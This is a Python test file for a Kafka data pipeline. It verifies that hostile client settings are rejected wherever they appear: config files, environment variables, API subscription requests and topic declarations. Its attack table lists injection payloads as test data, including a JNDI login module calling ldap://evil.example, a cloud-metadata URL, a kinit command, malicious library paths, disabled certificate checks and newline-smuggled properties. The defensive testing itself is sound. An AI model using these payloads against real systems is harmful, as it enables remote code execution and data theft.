"""Threat S27: nothing that anybody can write somewhere becomes a setting of the Kafka client, but for a short list."""

from __future__ import annotations

import ast
from pathlib import Path
from typing import Any

import pytest

from pipeline.config import load_config
from pipeline.consume import Consumer
from pipeline.errors import DeclarationInvalid
from pipeline.kafka.client import SECURITY_KEYS, KafkaSettings, client_conf
from pipeline.kafka.producer_settings import ProducerLimits, producer_conf
from pipeline.topics import load_topics
from tests.fakes.house import GatewayHouse
from tests.unit.gateway.answered import problem_of

PIPELINE = Path(__file__).parents[3] / "pipeline"
LDAP = "com.sun.security.auth.module.JndiLoginModule required user.provider.url=ldap://evil.example/x;"
# CVE-2023-25194, CVE-2025-27817, CVE-2025-27818, and what runs programs or loads libraries in librdkafka.
ATTACKS = {
    "sasl.jaas.config": LDAP,
    "sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd",
    "sasl.oauthbearer.jwks.endpoint.url": "http://169.254.169.254/latest",
    "sasl.oauthbearer.config": "principal=admin",
    "sasl.oauthbearer.method": "oidc",
    "sasl.login.callback.handler.class": "evil.Handler",
    "sasl.kerberos.kinit.cmd": "touch /opt/owned",
    "ssl.engine.location": "/opt/evil.so",
    "ssl.providers": "/opt/evil.so",
    "ssl.truststore.location": "/etc/passwd",
    "plugin.library.paths": "/opt/evil",
    "interceptor.classes": "evil.Interceptor",
    "metric.reporters": "evil.Reporter",
    "enable.ssl.certificate.verification": "false",
    "bootstrap.servers": "evil.example:9092",
    "client.id": "somebody else",
    "group.id": "app.somebody-elses",
    "debug": "all",
    "SASL.JAAS.CONFIG": LDAP,
    " sasl.kerberos.kinit.cmd": "touch /opt/owned",
    "sasl.kerberos.kinit.cmd\0": "touch /opt/owned",
    "topic.plugin.library.paths": "/opt/evil",
}
EACH = pytest.mark.parametrize(("key", "value"), ATTACKS.items(), ids=[repr(key) for key in ATTACKS])


def in_toml(text: str) -> str:
    return '"' + text.replace("\0", "\\u0000") + '"'


@EACH
def test_the_configuration_sets_no_such_property(tmp_path: Path, key: str, value: str) -> None:
    table = f"{{{in_toml(key)} = {in_toml(value)}}}"
    for written in (f"[kafka]\nsecurity = {table}\n", f"[kafka]\n{in_toml(key)} = {in_toml(value)}\n"):
        (tmp_path / "pipeline.toml").write_text(written)
        with pytest.raises(DeclarationInvalid):
            load_config(tmp_path, {}, {})
    (tmp_path / "pipeline.toml").unlink()
    escaped = key.replace("\0", "\\u0000")
    with pytest.raises(DeclarationInvalid) as caught:
        load_config(tmp_path, {"PIPELINE_KAFKA_SECURITY": f'{{"{escaped}": "{value}"}}'}, {})
    assert value not in str(caught.value)


@EACH
def test_a_service_of_ones_own_sets_no_such_property(key: str, value: str) -> None:
    with pytest.raises(DeclarationInvalid):
        Consumer("billing", security={key: value})


@EACH
async def test_no_request_carries_such_a_property_in(key: str, value: str) -> None:
    """Wherever in a subscription's declaration it stands, or as a name or value of its own."""
    house = GatewayHouse()
    house.log.create("orders", 1)
    good: dict[str, Any] = {"topics": ["orders"], "endpoint": {"url": "https://x.example.org/"}}
    tries: list[dict[str, Any]] = [
        {**good, key: value},
        {**good, "kafka": {"security": {key: value}}},
        {**good, "config": {key: value}},
        {**good, "retry": {key: value}},
        {**good, "signing": {key: value}},
        {**good, "endpoint": {**good["endpoint"], key: value}},
        {**good, "endpoint": {**good["endpoint"], "auth": {"kind": "bearer", "token": "t", key: value}}},
        {**good, "topics": [f"orders\n{key}={value}"]},
        {**good, "start": f"earliest\n{key}={value}"},
        {**good, "name": f"hook\n{key}={value}"},
    ]
    for declared in tries:
        answer = await house.call("PUT", "/v1/subscriptions/hook", json_body=declared)
        assert answer.status == 422, declared
    assert problem_of(await house.call("GET", "/v1/subscriptions/hook"))[0] == 404


@EACH
def test_a_topics_declaration_gives_settings_to_its_topic_and_to_nothing_else(
    tmp_path: Path, key: str, value: str
) -> None:
    """Beside ``config`` there is no place for them; what stands there, the broker judges as a topic's setting."""
    (tmp_path / "t.yaml").write_text(f"name: t\n{in_toml(key)}: {in_toml(value)}\n")
    with pytest.raises(DeclarationInvalid):
        load_topics(tmp_path)


HOSTILE = "127.0.0.1:9092\nplugin.library.paths=/opt/evil"


def test_a_value_with_a_line_break_is_one_value() -> None:
    """Settings go to the client as a table, never as lines of text."""
    allowed = dict.fromkeys(SECURITY_KEYS - {"security.protocol", "sasl.mechanism", "sasl.mechanisms"}, HOSTILE)
    settings = KafkaSettings(bootstrap_servers=HOSTILE, client_id=HOSTILE, security=allowed)
    plain = KafkaSettings()
    assert client_conf(settings, "tail").keys() - client_conf(plain, "tail").keys() == allowed.keys()
    added = producer_conf(settings, ProducerLimits()).keys() - producer_conf(plain, ProducerLimits()).keys()
    assert added == allowed.keys()
    assert client_conf(settings, "tail")["log_level"] == 0


@pytest.mark.parametrize(
    ("security", "field"),
    [
        ({"security.protocol": " sasl_ssl", "sasl.mechanism": "OAUTHBEARER"}, "security.protocol"),
        ({"security.protocol": "sasl_ssl,ssl"}, "security.protocol"),
        ({"security.protocol": ""}, "security.protocol"),
        (
            {"security.protocol": "sasl_ssl", "sasl.mechanisms": "PLAIN", "sasl.mechanism": "OAUTHBEARER"},
            "sasl.mechanisms",
        ),
        ({"security.protocol": "SASL_SSL", "sasl.mechanisms": " GSSAPI"}, "sasl.mechanism"),
    ],
)
def test_a_login_that_the_client_would_read_otherwise_than_we_is_refused(security: dict[str, str], field: str) -> None:
    """librdkafka passes over leading blanks and takes either name of one setting: the last one counts there."""
    with pytest.raises(DeclarationInvalid) as caught:
        KafkaSettings(security=security)
    assert caught.value.field == f"kafka.security.{field}"


def test_every_client_is_told_what_the_one_place_says() -> None:
    """The gate: no other file of the product names a server to a client, so none escapes the list above."""
    naming = set()
    for file in PIPELINE.rglob("*.py"):
        texts = (node.value for node in ast.walk(ast.parse(file.read_text())) if isinstance(node, ast.Constant))
        if "bootstrap.servers" in texts:
            naming.add(str(file.relative_to(PIPELINE)))
    assert naming == {"kafka/client.py"}
